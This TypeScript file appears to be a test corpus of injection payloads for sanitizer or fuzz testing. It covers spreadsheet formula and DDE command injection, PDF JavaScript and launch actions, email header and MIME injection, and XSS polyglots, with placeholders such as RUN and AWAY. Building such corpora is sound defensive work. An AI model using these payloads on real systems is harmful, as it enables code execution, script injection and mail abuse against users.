/** What spreadsheets, PDF readers and mail programs would run or follow, and what runs in several places at once. */
const formulas = [
  ...[
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("AWAY","x")',
    '=IMPORTXML("AWAY","//a")',
    '=WEBSERVICE("AWAY")',
    '+1+cmd|x',
    '-2+3+cmd|x',
    '@SUM(1+1)*cmd|x',
  ],
  ...[
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '"=1+1',
    "'=1+1",
    '=1+1;x',
    '=DDE("cmd";"x";"y")',
    '%0A-3+3',
    '=IMAGE("AWAY")',
    '\uff1d1+1',
    '\u200b=1+1',
    ';=1+1',
    '|=1+1',
  ],
];

const files = [
  ...[
    '(x) /S /JavaScript /JS (RUN)',
    '/AA << /O << /S /JavaScript /JS (RUN) >> >>',
    '>> /OpenAction << /S /JavaScript /JS (RUN) >>',
    'endstream endobj 1 0 obj << /JS (RUN) >>',
  ],
  ...[
    '\\) /URI (javascript:RUN)',
    '<< /S /Launch /F (cmd) >>',
    '%PDF-1.7 /Names /JavaScript',
    'x\r\nBcc: a@canary.invalid',
    'x\nContent-Type: text/html\n\n<script>RUN</script>',
  ],
  ...[
    'x\r\n\r\n<img src=AWAY>',
    '=?utf-8?q?=3Cscript=3ERUN?=',
    '"><img src=AWAY>@stone.example',
    'a@b.c>\r\nRCPT TO:<x@canary.invalid',
    '--boundary\r\nContent-Type: text/html',
    'x.svg"; filename="x.html',
  ],
];

const polyglots = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e',
  '"onclick=RUN//<button ‘ onclick=RUN//> RUN//',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=RUN//>',
  '\'">><marquee><img src=x onerror=RUN></marquee>"></plaintext\\></|\\><plaintext/onmouseover=RUN>',
  '<script>RUN</script>\'"><img src=x onerror=RUN>{{RUN}}\u0024{RUN}javascript:RUN',
  "`\"'><img src='#\x27 onerror=RUN>",
  '--></tiTle></stYle></texTarea></scrIpt>"//\'//><scrIpt>RUN</scrIpt>',
  '*/RUN/*',
  '%0ajavascript:`/*\\"/*-->&lt;svg onload=\'/*</template></noembed></noscript></style></title></textarea></script><html onmouseover="/**/ RUN//\'">`',
  '">\'><details/open/ontoggle=RUN>',
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
];

export const otherReaders: string[] = [...formulas, ...files, ...polyglots];
